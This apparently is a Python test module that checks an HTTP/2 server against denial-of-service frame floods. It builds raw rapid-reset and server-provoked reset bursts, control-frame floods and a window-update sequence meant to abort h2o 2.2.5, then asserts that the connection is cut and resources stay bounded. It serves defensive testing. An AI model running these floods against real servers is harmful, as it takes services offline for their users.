"""Resets without end, and other floods of frames: cheap for the client, work for the server."""

import struct
import time

import h2raw
from registry import attack, check, check_honest

BUDGET = {"resets": 50}
FLOOD = 5000  # streams


def check_cut(target, client, sent, requests_max=None):
    """The connection is ended with ENHANCE_YOUR_CALM (or cut, when the flood filled the socket), others are served."""
    check(client.wait_closed(), f"still open after {sent}")
    check(client.goaway_code() in (None, h2raw.ENHANCE_YOUR_CALM), f"GOAWAY with {client.goaway_code()}")
    if requests_max is not None and hasattr(target, "stats"):
        requests = target.stats()["requests"]
        check(requests <= requests_max, f"{requests} requests reached the handler")
    check_honest(target)


@attack(limits=BUDGET, sabotage=("resets",))
def rapid_reset(target):
    with target.h2() as client:
        for first in range(1, 2 * FLOOD, 200):
            streams = range(first, first + 200, 2)
            if not client.send(b"".join(h2raw.headers(n, path=target.path) + h2raw.rst(n) for n in streams)):
                break
        check_cut(target, client, f"{FLOOD} requests reset by the client", target.limits["resets"] + 10)


@attack(limits=BUDGET, sabotage=("resets",))
def headers_data_reset(target):
    """No handler ever sees these."""
    with target.h2() as client:
        for first in range(1, 2 * FLOOD, 200):
            streams = range(first, first + 200, 2)
            burst = b"".join(h2raw.headers(n, end=False) + h2raw.data(n, b"x") + h2raw.rst(n) for n in streams)
            if not client.send(burst):
                break
        check_cut(target, client, f"{FLOOD} uploads reset by the client")


def made_you_reset(target, frames_that_reset):
    with target.h2() as client:
        for first in range(1, 2 * FLOOD, 200):
            streams = range(first, first + 200, 2)
            if not client.send(b"".join(frames_that_reset(n) for n in streams)):
                break
        check_cut(target, client, f"{FLOOD} requests that the server was made to reset", target.limits["resets"] + 10)


@attack(limits=BUDGET, sabotage=("resets",))
def server_reset_by_empty_window_update(target):
    made_you_reset(target, lambda n: h2raw.headers(n, path="/hold") + h2raw.window_update(n, 0))


@attack(limits=BUDGET, sabotage=("resets",))
def server_reset_by_window_overflow(target):
    made_you_reset(target, lambda n: h2raw.headers(n, path="/hold") + h2raw.window_update(n, 0x7FFFFFFF))


@attack(limits=BUDGET, sabotage=("resets",))
def server_reset_by_data_after_the_end(target):
    made_you_reset(target, lambda n: h2raw.headers(n, path="/hold") + h2raw.data(n, b"x"))


@attack(limits=BUDGET, sabotage=("resets",))
def server_reset_by_wrong_length(target):
    fields = [("content-length", "5")]
    made_you_reset(target, lambda n: h2raw.headers(n, end=False, fields=fields) + h2raw.data(n, b"x", end=True))


def frame_flood(target, one, count=20000):
    with target.h2() as client:
        before = target.rss()
        for _ in range(count // 1000):
            if not client.send(one * 1000):
                break
        check_cut(target, client, f"{count} frames")
        grown = target.rss() - before
        check(grown < 16 << 20, f"memory grew by {grown >> 20} MiB")


CONTROL = {"control-frames": 1000}


@attack(limits=CONTROL, sabotage=("control-frames",))
def server_reset_of_one_closed_stream(target):
    with target.h2() as client:
        client.request(1, path=target.path)
        client.wait_answer(1)
        client.send(h2raw.window_update(1, 0) * 20000)
        check_cut(target, client, "20000 resets of a closed stream")


@attack(limits=CONTROL, sabotage=("control-frames",))
def ping_flood(target):
    frame_flood(target, h2raw.frame(h2raw.PING, 0, 0, b"12345678"))


@attack(limits=CONTROL, sabotage=("control-frames",))
def settings_flood(target):
    frame_flood(target, h2raw.settings((h2raw.SETTING_INITIAL_WINDOW_SIZE, 65535)))


@attack(limits=CONTROL, sabotage=("control-frames",))
def priority_flood(target):
    frame_flood(target, h2raw.frame(h2raw.PRIORITY, 0, 101, struct.pack(">IB", 0, 1)))


@attack(limits=CONTROL, sabotage=("control-frames",))
def empty_data_flood(target):
    with target.h2() as client:
        client.request(1, end=False, path=target.path)
        client.send(h2raw.data(1) * 20000)
        check_cut(target, client, "20000 empty frames")


@attack(limits=CONTROL, sabotage=("control-frames",))
def unknown_frame_flood(target):
    frame_flood(target, h2raw.frame(0x42, 0, 0, b"?"))


@attack(sabotage=("unknown-frames",))
def unknown_frames_log_nothing(target):
    with target.h2() as client:
        client.send(h2raw.frame(0x42, 0, 0, b"?") * 500)
        client.request(1, path=target.path)
        check(client.wait_answer(1).status == 200, "unknown frames are to be ignored")
        if hasattr(target, "log_text"):
            check("skipping" not in target.log_text(), "a line for each unknown frame")


def is_answered(target):
    """Whether every request has its answer. The loop that says how many are open has dealt with all that came before
    the question: a request that is open after many such answers is stuck, and not only slow."""
    for _ in range(20):
        if target.stats()["live"] <= 1:
            return True
        time.sleep(0.05)
    return False


@attack(sabotage=("window-assertion",))
def window_update_of_an_answer_being_written(target):
    """h2o 2.2.5 aborts when a stream's window grows again whose answer has used it up exactly and still sits in the
    socket. So: windows as long as the answers, which are not read until a write of the server gets stuck; then wider
    windows. Few requests at a time: h2o writes more than 80 KB only when the socket has room for a lot."""
    size, batch = 16384, 4
    for widen in (
        lambda streams: b"".join(h2raw.window_update(n, 1) for n in streams),
        lambda streams: h2raw.settings((h2raw.SETTING_INITIAL_WINDOW_SIZE, size + 1)),
    ):
        with target.h2(receive_buffer=4096, begin=False) as client:
            first = h2raw.settings((h2raw.SETTING_INITIAL_WINDOW_SIZE, size))
            client.send(h2raw.PREFACE + first + h2raw.window_update(0, 0x7FFFFFFF - 65535))
            streams, answered = [], True
            while answered and len(streams) < 2000:
                more = range(2 * len(streams) + 1, 2 * len(streams) + 1 + 2 * batch, 2)
                client.send(b"".join(h2raw.headers(n, method="GET", path=f"/big?bytes={size}") for n in more))
                streams += more
                answered = is_answered(target)
            check(not answered, "the socket never filled up: the attack did not take place")
            client.send(widen(streams))
            check_honest(target)
            done = client.pump(lambda: all(client.stream(n).ended for n in streams))
            check(done, "not every answer came")
        target.wait_stats(lambda stats: stats["live"] <= 1)
